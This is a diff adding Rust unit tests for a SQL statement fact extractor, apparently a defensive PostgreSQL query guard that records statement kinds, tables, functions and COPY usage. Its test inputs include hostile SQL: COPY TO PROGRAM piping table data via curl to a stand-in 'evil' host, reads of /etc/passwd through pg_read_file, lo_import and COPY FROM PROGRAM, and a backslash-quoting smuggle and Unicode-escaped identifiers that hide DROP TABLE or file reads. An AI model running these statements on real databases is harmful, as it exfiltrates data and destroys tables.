@@ -1,0 +1,802 @@
+//! Fact extraction.
+
+use super::super::facts::{
+    CopyDirection, CopyFacts, ExtractOptions, StatementKind as K, extract, extract_with,
+};
+use super::{one, tables};
+
+fn check_tables(cases: &[(&str, K, &[&str])]) {
+    for (sql, kind, expected) in cases {
+        let facts = one(sql);
+        assert_eq!(facts.kind, *kind, "kind of {sql}");
+        assert_eq!(tables(&facts), *expected, "tables of {sql}");
+    }
+}
+
+#[test]
+fn joins_and_subqueries() {
+    check_tables(&[
+        (
+            "SELECT a.x FROM a JOIN b ON a.id = b.id LEFT JOIN s.c USING (id) CROSS JOIN d",
+            K::Select,
+            &["a:r", "b:r", "s.c:r", "d:r"],
+        ),
+        (
+            "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE EXISTS (SELECT 1 FROM v))",
+            K::Select,
+            &["t:r", "u:r", "v:r"],
+        ),
+        (
+            "SELECT (SELECT max(x) FROM m) AS mx, y FROM t WHERE z = ANY(SELECT z FROM w)",
+            K::Select,
+            &["m:r", "t:r", "w:r"],
+        ),
+        (
+            "SELECT * FROM (SELECT * FROM inner_t) sub, LATERAL (SELECT * FROM lat WHERE lat.x = sub.x) l",
+            K::Select,
+            &["inner_t:r", "lat:r"],
+        ),
+        (
+            "SELECT 1 FROM a UNION SELECT 2 FROM b EXCEPT SELECT 3 FROM c",
+            K::Select,
+            &["a:r", "b:r", "c:r"],
+        ),
+        (
+            "SELECT * FROM t ORDER BY (SELECT count(*) FROM o) LIMIT (SELECT 1 FROM l)",
+            K::Select,
+            &["t:r", "o:r", "l:r"],
+        ),
+        ("VALUES (1), ((SELECT x FROM v))", K::Select, &["v:r"]),
+        ("SELECT 1", K::Select, &[]),
+    ]);
+}
+
+#[test]
+fn ctes() {
+    check_tables(&[
+        // CTE names are not tables, CTE bodies are.
+        (
+            "WITH a AS (SELECT * FROM base), b AS (WITH c AS (SELECT * FROM a) SELECT * FROM c JOIN other ON true) SELECT * FROM b",
+            K::Select,
+            &["base:r", "other:r"],
+        ),
+        // Inside its own (non-recursive) body, a CTE name is the real table.
+        (
+            "WITH customers AS (SELECT * FROM customers) SELECT * FROM customers",
+            K::Select,
+            &["customers:r"],
+        ),
+        // A later CTE is not in scope in an earlier CTE's body.
+        (
+            "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b",
+            K::Select,
+            &["b:r"],
+        ),
+        (
+            "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
+            K::Select,
+            &[],
+        ),
+        // A schema-qualified name is never a CTE.
+        (
+            "WITH t AS (SELECT 1) SELECT * FROM t, public.t",
+            K::Select,
+            &["public.t:r"],
+        ),
+        // CTE scope ends with its query.
+        (
+            "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) a, x",
+            K::Select,
+            &["x:r"],
+        ),
+        // Subqueries see the CTEs of enclosing queries.
+        (
+            "WITH x AS (SELECT 1) SELECT * FROM t WHERE EXISTS (SELECT 1 FROM x)",
+            K::Select,
+            &["t:r"],
+        ),
+        ("WITH t AS (SELECT 1) TABLE t", K::Select, &[]),
+    ]);
+}
+
+#[test]
+fn dml_inside_ctes() {
+    let f = one("WITH x AS (DELETE FROM secrets RETURNING *) SELECT * FROM x");
+    assert_eq!(f.kind, K::Delete);
+    assert_eq!(f.kinds, vec![K::Delete, K::Select]);
+    assert_eq!(tables(&f), ["secrets:w"]);
+    assert!(f.update_or_delete_without_where);
+
+    let f = one(
+        "WITH u AS (UPDATE accounts SET balance = 0 WHERE id = 1 RETURNING *), \
+         i AS (INSERT INTO audit SELECT * FROM u RETURNING *) SELECT count(*) FROM i",
+    );
+    assert_eq!(f.kind, K::Update);
+    // `kind` first, then in order of appearance.
+    assert_eq!(f.kinds, vec![K::Update, K::Select, K::Insert]);
+    assert_eq!(tables(&f), ["accounts:w", "audit:w"]);
+    assert!(!f.update_or_delete_without_where);
+
+    // A DML target is a real table even when a CTE has the same name.
+    let f = one("WITH t AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM t)");
+    assert_eq!(f.kind, K::Delete);
+    assert_eq!(f.kinds, vec![K::Delete]);
+    assert_eq!(tables(&f), ["t:w"]);
+
+    let f = one("WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d");
+    assert_eq!(f.kind, K::Delete);
+    assert_eq!(f.kinds, vec![K::Delete, K::Insert]);
+    assert_eq!(tables(&f), ["a:w", "b:w"]);
+}
+
+#[test]
+fn dml_targets() {
+    check_tables(&[
+        ("INSERT INTO t (a) VALUES ($1)", K::Insert, &["t:w"]),
+        (
+            "INSERT INTO s.t SELECT * FROM src ON CONFLICT (id) DO UPDATE SET v = EXCLUDED.v",
+            K::Insert,
+            &["s.t:w", "src:r"],
+        ),
+        (
+            "UPDATE t SET a = u.a, b = (SELECT b FROM secret LIMIT 1) FROM u WHERE t.id = u.id",
+            K::Update,
+            &["t:w", "secret:r", "u:r"],
+        ),
+        (
+            "DELETE FROM t USING u WHERE t.id = u.id",
+            K::Delete,
+            &["t:w", "u:r"],
+        ),
+        (
+            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v \
+             WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)",
+            K::Merge,
+            &["t:w", "s:r"],
+        ),
+        ("SELECT * FROM t FOR UPDATE", K::Select, &["t:r"]),
+    ]);
+}
+
+#[test]
+fn ddl_targets() {
+    check_tables(&[
+        ("CREATE TABLE x AS SELECT * FROM y", K::Ddl, &["x:w", "y:r"]),
+        ("CREATE VIEW v AS SELECT * FROM t", K::Ddl, &["v:w", "t:r"]),
+        (
+            "DROP TABLE IF EXISTS a, s.b CASCADE",
+            K::Ddl,
+            &["a:w", "s.b:w"],
+        ),
+        ("TRUNCATE pgbench_history", K::Ddl, &["pgbench_history:w"]),
+        ("ALTER TABLE t ADD COLUMN x int", K::Ddl, &["t:w"]),
+        ("CREATE INDEX i ON s.t (a)", K::Ddl, &["s.t:w"]),
+        ("COMMENT ON COLUMN s.t.c IS 'x'", K::Ddl, &["s.t:w"]),
+        ("SELECT * INTO newt FROM t", K::Ddl, &["newt:w", "t:r"]),
+        ("VACUUM pgbench_branches", K::Ddl, &["pgbench_branches:w"]),
+        ("ANALYZE pgbench_accounts", K::Ddl, &["pgbench_accounts:w"]),
+        ("GRANT SELECT ON t TO r", K::Dcl, &["t:w"]),
+        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", K::Other, &["t:w"]),
+    ]);
+    // Relation DDL lists every table it changes; other DDL is opaque.
+    assert!(!one("DROP TABLE t").opaque);
+    assert!(!one("CREATE TABLE x (id int)").opaque);
+    for sql in [
+        "DROP SCHEMA s CASCADE",
+        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
+        "GRANT SELECT ON ALL TABLES IN SCHEMA public TO r",
+        "CREATE ROLE r",
+        "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
+    ] {
+        assert!(one(sql).opaque, "{sql} should be opaque");
+    }
+}
+
+#[test]
+fn table_command() {
+    check_tables(&[
+        ("TABLE t", K::Select, &["t:r"]),
+        ("TABLE s.t ORDER BY 1", K::Select, &["s.t:r"]),
+        ("SELECT * FROM (TABLE t) x", K::Select, &["t:r"]),
+        ("SELECT 1 UNION TABLE other.t", K::Select, &["other.t:r"]),
+    ]);
+    assert_eq!(one("  TABLE   s.t ").text, "TABLE   s.t");
+}
+
+#[test]
+fn identifiers_are_folded_like_postgres() {
+    check_tables(&[
+        (
+            "SELECT * FROM \"Public\".\"Users\"",
+            K::Select,
+            &["Public.Users:r"],
+        ),
+        ("SELECT * FROM Public.Users", K::Select, &["public.users:r"]),
+        ("SELECT * FROM \"a\"\"b\"", K::Select, &["a\"b:r"]),
+        // db.schema.table keeps schema and table.
+        ("SELECT * FROM MyDb.S.T", K::Select, &["s.t:r"]),
+    ]);
+    // PostgreSQL truncates identifiers to 63 bytes.
+    let long = format!("{}xyz", "a".repeat(63));
+    let f = one(&format!("SELECT * FROM {long}"));
+    assert_eq!(f.tables[0].name, "a".repeat(63));
+}
+
+#[test]
+fn functions() {
+    let f = one(
+        "SELECT pg_catalog.pg_read_file('/etc/passwd'), PG_SLEEP(1), \"MyFunc\"(), \
+         upper(lower(x)) FROM t WHERE length(y) > 0",
+    );
+    assert_eq!(
+        f.functions,
+        [
+            "pg_read_file",
+            "pg_sleep",
+            "MyFunc",
+            "upper",
+            "lower",
+            "length"
+        ]
+    );
+    assert_eq!(tables(&f), ["t:r"]);
+
+    // Table functions are functions, not tables.
+    let f = one("SELECT * FROM pg_ls_dir('.') d, LATERAL pg_read_file(d) c, t");
+    assert_eq!(f.functions, ["pg_ls_dir", "pg_read_file"]);
+    assert_eq!(tables(&f), ["t:r"]);
+
+    let f = one("INSERT INTO t VALUES (lo_import('/etc/passwd'))");
+    assert_eq!(f.functions, ["lo_import"]);
+
+    let f = one("CALL myschema.proc(now())");
+    assert_eq!(f.kind, K::Call);
+    assert_eq!(f.functions, ["proc", "now"]);
+
+    let f = one("SELECT substring('abc' from 2), extract(year from now())");
+    assert_eq!(f.functions, ["substring", "extract", "now"]);
+}
+
+#[test]
+fn copy() {
+    let cases: &[(&str, &[&str], CopyFacts)] = &[
+        (
+            "COPY t TO STDOUT",
+            &["t:r"],
+            CopyFacts {
+                direction: CopyDirection::To,
+                program: false,
+                file: false,
+            },
+        ),
+        (
+            "COPY s.t (a, b) FROM STDIN WITH (FORMAT csv)",
+            &["s.t:w"],
+            CopyFacts {
+                direction: CopyDirection::From,
+                program: false,
+                file: false,
+            },
+        ),
+        (
+            "COPY t TO PROGRAM 'curl -d @- http://evil'",
+            &["t:r"],
+            CopyFacts {
+                direction: CopyDirection::To,
+                program: true,
+                file: false,
+            },
+        ),
+        (
+            "COPY t FROM PROGRAM 'cat /etc/passwd'",
+            &["t:w"],
+            CopyFacts {
+                direction: CopyDirection::From,
+                program: true,
+                file: false,
+            },
+        ),
+        (
+            "COPY (select * from secrets) TO '/tmp/f'",
+            &["secrets:r"],
+            CopyFacts {
+                direction: CopyDirection::To,
+                program: false,
+                file: true,
+            },
+        ),
+    ];
+    for (sql, expected_tables, expected) in cases {
+        let f = one(sql);
+        assert_eq!(f.kind, K::Copy, "{sql}");
+        assert_eq!(tables(&f), *expected_tables, "{sql}");
+        assert_eq!(f.copy, Some(*expected), "{sql}");
+    }
+    assert_eq!(one("SELECT 1").copy, None);
+}
+
+#[test]
+fn without_where() {
+    for (sql, expected) in [
+        ("UPDATE t SET a = 1", true),
+        ("DELETE FROM t", true),
+        ("UPDATE t SET a = 1 WHERE id = $1", false),
+        ("DELETE FROM t WHERE id = 1", false),
+        ("UPDATE t SET a = u.a FROM u", true),
+        (
+            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
+            true,
+        ),
+        ("SELECT * FROM t", false),
+        ("EXPLAIN ANALYZE DELETE FROM t", true),
+    ] {
+        assert_eq!(one(sql).update_or_delete_without_where, expected, "{sql}");
+    }
+}
+
+#[test]
+fn explain() {
+    let f = one("EXPLAIN ANALYZE DELETE FROM t");
+    assert_eq!(
+        (f.kind, f.explain, f.explain_analyze),
+        (K::Delete, true, true)
+    );
+    assert_eq!(tables(&f), ["t:w"]);
+    let f = one("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1");
+    assert_eq!(
+        (f.kind, f.explain, f.explain_analyze),
+        (K::Update, true, true)
+    );
+    let f = one("EXPLAIN (ANALYZE false) SELECT 1");
+    assert_eq!(
+        (f.kind, f.explain, f.explain_analyze),
+        (K::Select, true, false)
+    );
+    let f = one("EXPLAIN SELECT * FROM t");
+    assert_eq!(
+        (f.kind, f.explain, f.explain_analyze),
+        (K::Select, true, false)
+    );
+    assert!(!one("SELECT 1").explain);
+}
+
+#[test]
+fn statement_kinds() {
+    let cases: &[(&str, K)] = &[
+        ("SELECT 1", K::Select),
+        ("SHOW search_path", K::Select),
+        ("DECLARE c CURSOR FOR SELECT * FROM t", K::Select),
+        ("FETCH 10 FROM c", K::Select),
+        ("CLOSE c", K::Select),
+        ("CREATE TABLE t (id int)", K::Ddl),
+        ("ALTER TABLE t DROP COLUMN x", K::Ddl),
+        ("DROP VIEW v", K::Ddl),
+        ("COMMENT ON TABLE t IS 'x'", K::Ddl),
+        ("CREATE EXTENSION dblink", K::Ddl),
+        ("LOAD 'plpgsql'", K::Ddl),
+        ("REFRESH MATERIALIZED VIEW mv", K::Ddl),
+        ("VACUUM ANALYZE", K::Ddl),
+        ("ANALYZE", K::Ddl),
+        ("GRANT SELECT ON t TO r", K::Dcl),
+        ("REVOKE ALL ON t FROM r", K::Dcl),
+        ("GRANT admin TO bob", K::Dcl),
+        ("CREATE ROLE r", K::Dcl),
+        ("ALTER ROLE r SUPERUSER", K::Dcl),
+        ("ALTER USER u WITH PASSWORD 'x'", K::Dcl),
+        ("DROP ROLE r", K::Dcl),
+        ("CREATE USER u", K::Dcl),
+        ("SET ROLE postgres", K::Dcl),
+        ("SET SESSION AUTHORIZATION postgres", K::Dcl),
+        ("RESET ROLE", K::Dcl),
+        ("CREATE POLICY p ON t USING (true)", K::Dcl),
+        ("BEGIN", K::Transaction),
+        ("BEGIN ISOLATION LEVEL SERIALIZABLE", K::Transaction),
+        ("START TRANSACTION READ ONLY", K::Transaction),
+        ("COMMIT", K::Transaction),
+        ("END", K::Transaction),
+        ("ROLLBACK", K::Transaction),
+        ("ABORT", K::Transaction),
+        ("SAVEPOINT a", K::Transaction),
+        ("RELEASE SAVEPOINT a", K::Transaction),
+        ("ROLLBACK TO SAVEPOINT a", K::Transaction),
+        ("SET application_name = 'x'", K::Set),
+        ("SET search_path TO public, pg_catalog", K::Set),
+        ("SET LOCAL statement_timeout = '5s'", K::Set),
+        ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", K::Set),
+        ("RESET ALL", K::Set),
+        ("DISCARD ALL", K::Set),
+        ("CALL p()", K::Call),
+        ("LISTEN ch", K::Other),
+        ("NOTIFY ch, 'x'", K::Other),
+        ("UNLISTEN *", K::Other),
+        ("PREPARE p (int) AS SELECT $1", K::Other),
+        ("EXECUTE p(1)", K::Other),
+        ("DEALLOCATE p", K::Other),
+        ("DEALLOCATE ALL", K::Other),
+    ];
+    for (sql, kind) in cases {
+        let f = one(sql);
+        assert_eq!(f.kind, *kind, "{sql}");
+        assert_eq!(f.kinds[0], *kind, "{sql}");
+    }
+}
+
+#[test]
+fn prepare_and_execute() {
+    // PREPARE is judged by what it prepares.
+    let f = one("PREPARE p AS DELETE FROM t");
+    assert_eq!(f.kind, K::Delete);
+    assert_eq!(f.kinds, vec![K::Delete, K::Other]);
+    assert_eq!(tables(&f), ["t:w"]);
+    // EXECUTE cannot be judged.
+    let f = one("EXECUTE p(1)");
+    assert!(f.opaque_execute && f.opaque);
+    assert!(!one("DEALLOCATE p").opaque_execute);
+}
+
+#[test]
+fn statements_sqlparser_cannot_parse_are_classified_by_keyword() {
+    let cases: &[(&str, K)] = &[
+        ("DO $$ BEGIN PERFORM 1; END $$", K::Do),
+        ("DO LANGUAGE plpgsql $$ BEGIN NULL; END $$", K::Do),
+        ("CLUSTER t", K::Ddl),
+        ("REINDEX TABLE t", K::Ddl),
+        ("CHECKPOINT", K::Ddl),
+        ("VACUUM (VERBOSE, ANALYZE) t", K::Ddl),
+        ("ALTER SYSTEM SET work_mem = '1GB'", K::Ddl),
+        ("CREATE PUBLICATION p FOR TABLE t", K::Ddl),
+        ("IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y", K::Ddl),
+        ("SECURITY LABEL ON TABLE t IS 'x'", K::Dcl),
+        ("PREPARE TRANSACTION 'x'", K::Transaction),
+        ("COMMIT PREPARED 'x'", K::Transaction),
+        ("ROLLBACK PREPARED 'x'", K::Transaction),
+    ];
+    for (sql, kind) in cases {
+        let f = one(sql);
+        assert_eq!(f.kind, *kind, "{sql}");
+        assert!(f.opaque, "{sql} should be opaque");
+        assert!(f.tables.is_empty(), "{sql}");
+        assert_eq!(f.text, *sql);
+    }
+    // Function calls in DO bodies (and in dynamic SQL in them) are found.
+    let f = one(
+        "DO $$ BEGIN PERFORM pg_catalog.pg_read_file('/etc/passwd'); \
+         EXECUTE 'SELECT lo_export(1, ''/tmp/x'')'; END $$",
+    );
+    assert!(f.functions.contains(&"pg_read_file".to_string()));
+    assert!(f.functions.contains(&"lo_export".to_string()));
+    // Still refused: other statements it does not know.
+    assert!(extract("MOVE 1 FROM c").is_err());
+    assert!(extract("selec 1").is_err());
+}
+
+#[test]
+fn multi_statement_strings() {
+    let all = extract("select 1; drop table x").unwrap();
+    assert_eq!(all.len(), 2);
+    assert_eq!((all[0].kind, all[0].text.as_str()), (K::Select, "SELECT 1"));
+    assert_eq!(
+        (all[1].kind, all[1].text.as_str()),
+        (K::Ddl, "DROP TABLE x")
+    );
+    assert_eq!(tables(&all[1]), ["x:w"]);
+
+    let all = extract("BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;").unwrap();
+    let kinds: Vec<K> = all.iter().map(|f| f.kind).collect();
+    assert_eq!(kinds, [K::Transaction, K::Update, K::Transaction]);
+
+    // Unparseable statements next to ones that need the keyword fallback.
+    let all = extract("SELECT 'é'; DO $$ BEGIN NULL; END $$; SELECT 2").unwrap();
+    let kinds: Vec<K> = all.iter().map(|f| f.kind).collect();
+    assert_eq!(kinds, [K::Select, K::Do, K::Select]);
+    assert_eq!(all[1].text, "DO $$ BEGIN NULL; END $$");
+    assert!(extract("DO $$ $$; selec 1").is_err());
+
+    // Semicolons inside strings, dollar quotes and comments do not split.
+    let all = extract("SELECT 'a;b', $$c;d$$, $x$ ; $x$ /* ; */ -- ;\n").unwrap();
+    assert_eq!(all.len(), 1);
+}
+
+#[test]
+fn empty_queries() {
+    for sql in ["", "   ", ";", " ;; -- comment\n ;", "/* only a comment */"] {
+        assert!(extract(sql).unwrap().is_empty(), "{sql:?}");
+    }
+}
+
+#[test]
+fn no_statement_hides_behind_a_stray_end() {
+    // sqlparser's own loop stops silently at `END` after a statement.
+    assert!(extract("SELECT 1 END; DROP TABLE x").is_err());
+}
+
+#[test]
+fn backslashes_in_strings() {
+    // standard_conforming_strings = on (default): '\' is a complete string, so
+    // the DROP is a separate statement, as PostgreSQL sees it.
+    let all = extract(r"SELECT '\'; DROP TABLE x; --'").unwrap();
+    assert_eq!(all.len(), 2);
+    assert_eq!(all[1].kind, K::Ddl);
+    // E'' strings do use backslash escapes.
+    let all = extract(r"SELECT E'\''; DROP TABLE x").unwrap();
+    assert_eq!(all.len(), 2);
+    // With standard_conforming_strings off, PostgreSQL would read
+    // 'a\' , ' as one string and run the DROP: refuse.
+    let off = ExtractOptions {
+        standard_conforming_strings: false,
+    };
+    let smuggle = r"SELECT 'a\' , '; DROP TABLE x; --'";
+    assert_eq!(extract(smuggle).unwrap().len(), 1);
+    let err = extract_with(smuggle, &off).unwrap_err();
+    assert!(err.message.contains("standard_conforming_strings"), "{err}");
+    assert!(extract_with("SELECT 'plain', E'\\n'", &off).is_ok());
+}
+
+#[test]
+fn turning_standard_conforming_strings_off_is_refused() {
+    for sql in [
+        "SET standard_conforming_strings = off",
+        "SET SESSION standard_conforming_strings TO false",
+        "SELECT set_config('standard_conforming_strings', 'off', false)",
+        "SELECT pg_catalog.set_config('STANDARD_CONFORMING_STRINGS', $1, false)",
+    ] {
+        let err = extract(sql).unwrap_err();
+        assert!(
+            err.message.contains("standard_conforming_strings"),
+            "{sql}: {err}"
+        );
+    }
+    assert!(extract("SET standard_conforming_strings = on").is_ok());
+    assert!(extract("SELECT set_config('search_path', '', false)").is_ok());
+}
+
+#[test]
+fn unicode_escaped_identifiers_are_refused() {
+    // sqlparser reads U&"..." as `U & "..."`; PostgreSQL as pg_read_file.
+    let err = extract(r#"SELECT U&"pg_read_fil\0065"('/etc/passwd')"#).unwrap_err();
+    assert!(err.message.contains("Unicode"), "{err}");
+    assert!(extract(r#"SELECT * FROM u&"secr\0065ts""#).is_err());
+    // A bitwise AND with a spaced operand is fine.
+    assert!(extract(r#"SELECT u & "v" FROM t"#).is_ok());
+}
+
+#[test]
+fn placeholders() {
+    let f = one("SELECT abalance FROM pgbench_accounts WHERE aid = $1");
+    assert_eq!(tables(&f), ["pgbench_accounts:r"]);
+    let f = one("SELECT $1::int, $2::text");
+    assert_eq!(f.kind, K::Select);
+}
+
+#[test]
+fn pgbench_statements() {
+    // pgbench's built-in TPC-B-like script, its select-only script and
+    // initialization.
+    let script = [
+        ("BEGIN;", K::Transaction, vec![]),
+        (
+            "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;",
+            K::Update,
+            vec!["pgbench_accounts:w"],
+        ),
+        (
+            "UPDATE pgbench_accounts SET abalance = abalance + 1 WHERE aid = 5;",
+            K::Update,
+            vec!["pgbench_accounts:w"],
+        ),
+        (
+            "SELECT abalance FROM pgbench_accounts WHERE aid = 5;",
+            K::Select,
+            vec!["pgbench_accounts:r"],
+        ),
+        (
+            "UPDATE pgbench_tellers SET tbalance = tbalance + -4000 WHERE tid = 3;",
+            K::Update,
+            vec!["pgbench_tellers:w"],
+        ),
+        (
+            "UPDATE pgbench_branches SET bbalance = bbalance + 12 WHERE bid = 1;",
+            K::Update,
+            vec!["pgbench_branches:w"],
+        ),
+        (
+            "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (3, 1, 5, 12, CURRENT_TIMESTAMP);",
+            K::Insert,
+            vec!["pgbench_history:w"],
+        ),
+        ("END;", K::Transaction, vec![]),
+        (
+            "vacuum pgbench_branches",
+            K::Ddl,
+            vec!["pgbench_branches:w"],
+        ),
+        (
+            "truncate pgbench_history",
+            K::Ddl,
+            vec!["pgbench_history:w"],
+        ),
+        (
+            "drop table if exists pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
+            K::Ddl,
+            vec![
+                "pgbench_accounts:w",
+                "pgbench_branches:w",
+                "pgbench_history:w",
+                "pgbench_tellers:w",
+            ],
+        ),
+        (
+            "create table pgbench_history(tid int,bid int,aid    int,delta int,mtime timestamp,filler char(22))",
+            K::Ddl,
+            vec!["pgbench_history:w"],
+        ),
+        (
+            "alter table pgbench_branches add primary key (bid)",
+            K::Ddl,
+            vec!["pgbench_branches:w"],
+        ),
+        (
+            "insert into pgbench_branches(bid,bbalance) values(1,0)",
+            K::Insert,
+            vec!["pgbench_branches:w"],
+        ),
+        (
+            "insert into pgbench_accounts(aid,bid,abalance,filler) select aid, (aid - 1) / 100000 + 1, 0, '' from generate_series(1, 100000) as aid",
+            K::Insert,
+            vec!["pgbench_accounts:w"],
+        ),
+        (
+            "select o.n, p.partstrat, pg_catalog.count(i.inhparent) from pg_catalog.pg_class as c join pg_catalog.pg_namespace as n on (n.oid = c.relnamespace) cross join lateral (select pg_catalog.array_position(pg_catalog.current_schemas(true), n.nspname)) as o(n) left join pg_catalog.pg_partitioned_table as p on (p.partrelid = c.oid) left join pg_catalog.pg_inherits as i on (c.oid = i.inhparent) where c.relname = 'pgbench_accounts' and o.n is not null group by 1, 2 order by 1 asc limit 1",
+            K::Select,
+            vec![
+                "pg_catalog.pg_class:r",
+                "pg_catalog.pg_namespace:r",
+                "pg_catalog.pg_partitioned_table:r",
+                "pg_catalog.pg_inherits:r",
+            ],
+        ),
+    ];
+    for (sql, kind, expected) in script {
+        let f = one(sql);
+        assert_eq!(f.kind, kind, "{sql}");
+        assert_eq!(tables(&f), expected, "{sql}");
+    }
+    // The whole transaction as one simple query.
+    let all = extract(
+        "BEGIN; UPDATE pgbench_accounts SET abalance = abalance + 1 WHERE aid = 5; \
+         SELECT abalance FROM pgbench_accounts WHERE aid = 5; END;",
+    )
+    .unwrap();
+    assert_eq!(all.len(), 4);
+}
+
+#[test]
+fn psql_catalog_queries() {
+    // \dt
+    let f = one(r#"SELECT n.nspname as "Schema",
+  c.relname as "Name",
+  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
+  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
+FROM pg_catalog.pg_class c
+     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
+     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
+WHERE c.relkind IN ('r','p','')
+      AND n.nspname <> 'pg_catalog'
+      AND n.nspname !~ '^pg_toast'
+      AND n.nspname <> 'information_schema'
+  AND pg_catalog.pg_table_is_visible(c.oid)
+ORDER BY 1,2;"#);
+    assert_eq!(f.kind, K::Select);
+    assert_eq!(
+        tables(&f),
+        [
+            "pg_catalog.pg_class:r",
+            "pg_catalog.pg_namespace:r",
+            "pg_catalog.pg_am:r"
+        ]
+    );
+    assert_eq!(f.functions, ["pg_get_userbyid", "pg_table_is_visible"]);
+
+    // \d t (lookup by regex with OPERATOR() and COLLATE)
+    let f = one(r#"SELECT c.oid,
+  n.nspname,
+  c.relname
+FROM pg_catalog.pg_class c
+     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
+WHERE c.relname OPERATOR(pg_catalog.~) '^(accounts)$' COLLATE pg_catalog.default
+  AND pg_catalog.pg_table_is_visible(c.oid)
+ORDER BY 2, 3;"#);
+    assert_eq!(
+        tables(&f),
+        ["pg_catalog.pg_class:r", "pg_catalog.pg_namespace:r"]
+    );
+
+    // \d t (table details, casts to regtype/text)
+    let f = one(
+        r#"SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, '', c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
+FROM pg_catalog.pg_class c
+ LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
+LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
+WHERE c.oid = '16384';"#,
+    );
+    assert_eq!(tables(&f), ["pg_catalog.pg_class:r", "pg_catalog.pg_am:r"]);
+
+    // \d t (columns, correlated scalar subqueries)
+    let f = one(r#"SELECT a.attname,
+  pg_catalog.format_type(a.atttypid, a.atttypmod),
+  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
+   FROM pg_catalog.pg_attrdef d
+   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
+  a.attnotnull,
+  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
+   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
+  a.attidentity,
+  a.attgenerated
+FROM pg_catalog.pg_attribute a
+WHERE a.attrelid = 'public.accounts'::regclass AND a.attnum > 0 AND NOT a.attisdropped
+ORDER BY a.attnum;"#);
+    assert_eq!(
+        tables(&f),
+        [
+            "pg_catalog.pg_attrdef:r",
+            "pg_catalog.pg_collation:r",
+            "pg_catalog.pg_type:r",
+            "pg_catalog.pg_attribute:r"
+        ]
+    );
+    assert_eq!(f.functions, ["format_type", "pg_get_expr"]);
+
+    // \l
+    let f = one(r#"SELECT
+  d.datname as "Name",
+  pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
+  pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
+  pg_catalog.array_to_string(d.datacl, E'\n') AS "Access privileges"
+FROM pg_catalog.pg_database d
+ORDER BY 1;"#);
+    assert_eq!(tables(&f), ["pg_catalog.pg_database:r"]);
+
+    // \du (ARRAY subquery)
+    let f = one(r#"SELECT r.rolname, r.rolsuper, r.rolinherit,
+  ARRAY(SELECT b.rolname
+        FROM pg_catalog.pg_auth_members m
+        JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid)
+        WHERE m.member = r.oid) as memberof
+FROM pg_catalog.pg_roles r
+WHERE r.rolname !~ '^pg_'
+ORDER BY 1;"#);
+    assert_eq!(
+        tables(&f),
+        ["pg_catalog.pg_auth_members:r", "pg_catalog.pg_roles:r"]
+    );
+}
+
+#[test]
+fn serializes_with_lowercase_names() {
+    let f = one("WITH x AS (DELETE FROM secrets RETURNING *) SELECT * FROM x");
+    let json = serde_json::to_value(&f).unwrap();
+    assert_eq!(json["kind"], "delete");
+    assert_eq!(json["kinds"], serde_json::json!(["delete", "select"]));
+    assert_eq!(
+        json["tables"],
+        serde_json::json!([{ "schema": null, "name": "secrets", "access": "write" }])
+    );
+    let f = one("COPY t TO PROGRAM 'x'");
+    let json = serde_json::to_value(&f).unwrap();
+    assert_eq!(
+        json["copy"],
+        serde_json::json!({ "direction": "to", "program": true, "file": false })
+    );
+}
+
+#[test]
+fn kind_names_round_trip() {
+    for kind in K::ALL {
+        assert_eq!(kind.as_str().parse::<K>(), Ok(kind));
+        assert_eq!(
+            serde_json::to_value(kind).unwrap(),
+            serde_json::json!(kind.as_str())
+        );
+    }
+    assert!("dml".parse::<K>().unwrap_err().contains("select"));
+}
